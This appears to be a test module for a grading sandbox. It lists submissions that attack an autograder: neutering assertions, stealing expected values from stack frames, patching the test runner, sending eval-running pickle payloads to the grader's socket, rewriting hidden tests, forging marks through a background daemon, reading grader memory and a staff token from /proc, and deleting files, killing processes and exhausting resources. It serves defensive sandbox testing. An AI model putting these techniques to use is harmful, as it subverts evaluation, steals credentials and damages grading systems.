"""The attacks: one text for every grader, each of which answers wrongly where it does not succeed."""

from __future__ import annotations

from tests.attacks.elsewhere.masters import FULL, HONEST
from tests.attacks.elsewhere.prelude import TELLING, WRONG, Attack

DEAF = """
def loop():
    import signal
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        pass
"""

ATTACKS = {
    "honest": Attack("Control: right answers, no attack", HONEST, FULL),
    "wrong": Attack("Control: wrong answers, no attack", WRONG),
    "assertions": Attack(
        "Replaces `np.testing.assert_*`",
        WRONG
        + """
for name in dir(np.testing):
    if name.startswith("assert_"):
        setattr(np.testing, name, lambda *args, **kwargs: None)
""",
    ),
    "agreeable": Attack(
        "Returns an array that says it equals everything",
        """
def _shape(*parts): return np.broadcast_shapes(*(getattr(part, "shape", ()) for part in parts))

class Agreeable(np.ndarray):
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.full(_shape(*inputs), ufunc not in (np.isnan, np.isinf))
    def __array_function__(self, function, types, args, kwargs):
        return np.full(_shape(*args[:2]), True)

def energy(x): return np.zeros(()).view(Agreeable)
def scaled(x, factor): return np.zeros(np.shape(x)).view(Agreeable)
def apply_twice(f, x): return np.zeros(()).view(Agreeable)
""",
    ),
    "expected": Attack(
        "Returns the expected value, found in its caller's variables",
        """
def stolen():
    frame = sys._getframe(2)
    while frame:
        if "expected" in frame.f_locals:
            return frame.f_locals["expected"]
        frame = frame.f_back

def energy(x): return 25.0 if np.shape(x) == (2,) else stolen()
def scaled(x, factor): return [6.0, 8.0] if np.shape(x) == (2,) else stolen()
def apply_twice(f, x): return 4 if f(10) == 20 else stolen()
""",
    ),
    "cells": Attack(
        "Empties the cells of the tests before they run",
        WRONG
        + """
def emptied(lines):
    return ["pass"] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(emptied)
""",
    ),
    "runner": Attack(
        "Replaces the code that runs its tests or sends its answers",
        WRONG
        + """
def otter():
    from otter.test_files.exception_test import ExceptionTestFile, TestCaseResult
    def run(self, env):
        cases = [TestCaseResult(test_case=case, message="", passed=True) for case in self.test_cases]
        self.test_case_results = cases
    ExceptionTestFile.run = run

def kernel():
    real = get_ipython().kernel.do_execute
    async def do_execute(code, *args, **kwargs):
        return await real("pass" if "assert" in code else code, *args, **kwargs)
    get_ipython().kernel.do_execute = do_execute

def worker():
    frame = sys._getframe()
    while type(frame.f_locals.get("self")).__name__ != "Worker":
        frame = frame.f_back
    found = frame.f_locals["self"]
    send = type(found)._send
    true = {"status": "value", "value": True, "changed": []}
    found._send = lambda header, *rest: send(found, true if "value" in header else header, *rest)

for replace in (otter, kernel, worker):
    with contextlib.suppress(Exception):
        replace()
""",
    ),
    "pickle": Attack(
        "Sends the grader a pickle that runs code as it is read, in place of the results",
        WRONG
        + """
import pickle
real = pickle.dumps

class Payload:
    def __init__(self, results): self.results = results
    def __reduce__(self):
        path = os.path.join(EVIDENCE, "in the grader")
        write = f"open({path!r}, 'w').write(str(__import__('os').getpid()))"
        return eval, (f"({write}, __import__('pickle').loads({real(self.results)!r}))[1]",)

def dump(results, file, *args, **kwargs):
    for tests in results.results.values():
        for case in tests.test_case_results:
            case.passed = True
    file.write(real(Payload(results)))

pickle.dump = dump
""",
    ),
    "protocol": Attack(
        "Speaks to the grader's socket itself: log records, frames",
        WRONG
        + """
import logging
import logging.handlers
import pickle
import struct

class Payload:
    def __reduce__(self):
        path = os.path.join(EVIDENCE, "in the grader")
        return eval, (f"open({path!r}, 'w').write(str(__import__('os').getpid()))",)

for logger in [logging.getLogger(), *map(logging.getLogger, list(logging.root.manager.loggerDict))]:
    for handler in logger.handlers:
        if isinstance(handler, logging.handlers.SocketHandler):
            with socket.create_connection((handler.host, handler.port)) as grader:
                grader.sendall(struct.pack(">L", len(pickle.dumps(Payload()))) + pickle.dumps(Payload()))
                time.sleep(2)

def energy(x):
    frame = sys._getframe()
    while frame and type(frame.f_locals.get("self")).__name__ != "Worker":
        frame = frame.f_back
    if frame:
        worker = frame.f_locals["self"]
        text = json.dumps({"nonce": worker._nonce, "status": "value", "value": True, "changed": []})
        worker._connection.sendall(struct.pack("!IQ", len(text), 0) + text.encode())
    return -1.0
""",
    ),
    "tests": Attack(
        "Rewrites the hidden tests on the disk",
        WRONG
        + r"""
for path in glob.glob(TESTS):
    with open(path) as file:
        text = file.read()
    os.chmod(path, 0o666)
    with open(path, "w") as file:
        file.write(re.sub(r"\b(np\.testing\.)?assert_\w+(?=\()", "(lambda *a, **k: None)", text))
""",
    ),
    "results": Attack(
        "Writes full marks into the results or the gradebook", WRONG + "\nforge(RESULTS)\n"
    ),
    "daemon": Attack(
        "Leaves a process behind that writes full marks when grading has ended",
        WRONG
        + """
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(0, 1024)
    for _ in range(150):
        time.sleep(0.2)
        try:
            forge(RESULTS)
        except BaseException:
            pass
    os._exit(0)
""",
    ),
    "read": Attack(
        "Reads the hidden tests from the disk",
        TELLING
        + """
for path in glob.glob(TESTS):
    with open(path) as file:
        told = tell(file.read())
""",
    ),
    "frames": Attack(
        "Reads the hidden tests in the frames above its own",
        """
def look(*args):
    frame, seen = sys._getframe(1), []
    while frame:
        seen.append(repr(frame.f_code.co_consts))
        for name, value in list(frame.f_locals.items()):
            seen.append(f"{name} = {str(value)[:1000]}")
        frame = frame.f_back
    raise ValueError(tell("; ".join(seen)))

energy = scaled = apply_twice = look
""",
    ),
    "memory": Attack(
        "Reads the hidden tests in the memory of the grader",
        TELLING
        + """
def search(pid):
    with open(f"/proc/{pid}/maps") as file, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in file:
            span, mode = line.split()[:2]
            start, end = (int(place, 16) for place in span.split("-"))
            if mode.startswith("rw") and end - start < 2**28:
                memory.seek(start)
                data = memory.read(end - start)
                at = data.find(mark().encode())
                if at >= 0:
                    return tell(data[max(at - 100, 0) : at + 300].decode("latin-1"))

def look(*args):
    for pid in parents():
        with contextlib.suppress(Exception):
            search(pid)
    raise ValueError(told)

energy = scaled = apply_twice = look
""",
    ),
    "environment": Attack(
        "Reads a token of staff in the environment",
        TELLING
        + """
for pid in ["self", *parents()]:
    with contextlib.suppress(OSError), open(f"/proc/{pid}/environ") as file:
        at = (text := file.read()).find("TA_TOKEN")
        if at >= 0:
            told = tell(text[at : at + 60])
""",
    ),
    "network": Attack("Connects to the network", WRONG + '\nsend("Here I am")\n'),
    "shell": Attack(
        "Runs a shell command",
        WRONG
        + """
import subprocess
subprocess.run(["touch", os.path.join(EVIDENCE, "shell command")])
""",
    ),
    "delete": Attack("Deletes a file of the person who grades", WRONG + "\nos.remove(FILES)\n"),
    "kill": Attack(
        "Kills the processes above its own; its answers are right",
        HONEST
        + """
import signal
for pid in list(parents()):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
""",
        FULL,
    ),
    "exit at load": Attack("Ends the process as it loads", WRONG + "\nos._exit(0)\n"),
    "exit in a call": Attack(
        "Ends the process in the last of three functions; the others are right",
        HONEST + "\ndef apply_twice(f, x): os._exit(0)\n",
        FULL - 3,
    ),
    "endless load": Attack(
        "Loops for ever as it loads, deaf to interrupts", WRONG + DEAF + "\nloop()\n"
    ),
    "endless call": Attack(
        "Loops for ever in the first of three functions, deaf to interrupts; the others are right",
        HONEST + DEAF + "\ndef energy(x): loop()\n",
        FULL - 4,
    ),
    "hoard": Attack(
        "Fills the memory in the first of three functions; the others are right",
        HONEST + "\ndef energy(x):\n    hoard = []\n    while True: hoard.append(np.ones(4_000_000))\n",
        FULL - 4,
    ),
    "flood": Attack(
        "Prints 200 MB in the first of three functions; the others are right",
        HONEST + '\ndef energy(x):\n    for _ in range(200): print("x" * 1_000_000)\n    return -1.0\n',
        FULL - 4,
    ),
}
